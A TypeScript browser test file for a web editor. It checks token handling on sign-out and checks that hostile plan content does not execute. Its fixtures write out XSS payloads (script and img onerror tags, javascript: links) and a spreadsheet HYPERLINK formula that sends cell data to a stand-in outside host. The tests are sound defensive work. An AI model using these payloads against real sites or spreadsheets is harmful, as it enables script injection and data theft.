import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { TOKEN } from '../editing/hosts/server.ts';
import { chromiumHere } from './chromium.ts';
import { content, HAVULINNA, lineOpened, PATIENCE, press } from './form-tab.ts';
import { begun, type GuardedSite, guardedSite, kept, signedIn, signedOut } from './guarded-editor.ts';

const browser = chromiumHere();
let made: GuardedSite;
beforeAll(async () => {
  made = await guardedSite();
});
afterAll(() => made?.end());

describe('a token', () => {
  test('that the host is making anew while somebody signs out does not sign them in again', async () => {
    const { tab, close } = await begun(browser, made.site);
    await signedIn(tab);
    await tab.evaluate(() => {
      for (const [key, value] of Object.entries(sessionStorage))
        if (key.startsWith('renewal '))
          sessionStorage.setItem(key, JSON.stringify({ ...JSON.parse(String(value)), until: 0 }));
    });
    let answer = () => Promise.resolve();
    const isAsked = new Promise<void>((asked) => {
      void tab.route('**/oauth/token', (route) => {
        answer = () => route.continue();
        asked();
      });
    });
    await press(tab.locator('[data-send]').first());
    await isAsked;
    await signedOut(tab);
    const answered = tab.waitForResponse('**/oauth/token');
    await answer();
    await (await answered).finished();
    // Whatever came of the answer has come once the page has shown another frame.
    await tab.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done))));
    expect(await kept(tab)).not.toContain(TOKEN);
    await close();
  });
});

const RUNS = `'"><img src=x onerror="globalThis.ran=1"><script>globalThis.ran=1</script><a href="javascript:ran=1">a</a>'`;
/** What somebody may have written into a plan at the code host since the page was built, and no check has seen. */
const HOSTILE: Readonly<Record<string, (text: string) => string>> = {
  'markup that runs': (text) =>
    text.replace(/^name: .*$/m, `name: ${RUNS}`).replace('line: PM4 closed loop, pilot and phase 2', `line: ${RUNS}`),
  'formulas and addresses': (text) =>
    text
      .replace('line: PM4 closed loop, pilot and phase 2', `line: '=HYPERLINK("https://elsewhere.example/?"&A1;"x")'`)
      .replace('https://crm.example.com/accounts/ACC-00417', "'javascript:globalThis.ran=1'"),
};

describe('a plan that somebody has made hostile at the host', () => {
  test.each(Object.keys(HOSTILE))(
    'with %s is a text in the form, or is told: nothing runs, nothing is asked elsewhere',
    async (what) => {
      const branch = made.host.branches.get('main');
      const hostile = HOSTILE[what]?.(content(HAVULINNA)) ?? '';
      expect(hostile).not.toBe(content(HAVULINNA));
      const { tab, requests, said, close } = await begun(browser, made.site);
      const dialogs: string[] = [];
      tab.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      const faults: string[] = [];
      tab.on('pageerror', ({ message }) => faults.push(message));
      await signedIn(tab);
      branch?.files.set(`content/${HAVULINNA}`, hostile);
      try {
        await tab.goto(`${made.site.address}accounts/havulinna-paper/`);
        const { title } = await tab.evaluate(() => ({ title: document.title }));
        await lineOpened(tab);
        await tab.locator('.editor, .editor-page').first().waitFor(PATIENCE);
        // The page of one's own edits shows what became of the file, and its name.
        await tab.locator('.editor').first().innerText();
        const isTouched = () => [
          (globalThis as { ran?: unknown }).ran,
          ({} as { isPolluted?: unknown }).isPolluted,
          Object.keys(Object.prototype).length,
        ];
        expect(await tab.evaluate(isTouched)).toEqual([undefined, undefined, 0]);
        expect(await tab.title()).toBe(title);
        expect(await tab.locator('.editor :is(script, img, iframe, object, a[href^="javascript:" i])').count()).toBe(0);
        await tab.goto(`${made.site.address}my-edits/`);
        await tab.locator('[data-sign-out]').first().waitFor(PATIENCE);
        expect(await tab.evaluate(isTouched)).toEqual([undefined, undefined, 0]);
        expect(await tab.locator('main :is(script, img, iframe, object, a[href^="javascript:" i])').count()).toBe(0);
      } finally {
        branch?.files.set(`content/${HAVULINNA}`, content(HAVULINNA));
      }
      const origins = [new URL(made.site.address).origin, new URL(made.host.account.url).origin];
      expect(requests.filter((request) => !origins.includes(new URL(request.url()).origin))).toEqual([]);
      expect([dialogs, faults, said]).toEqual([[], [], []]);
      await close();
    },
  );
});
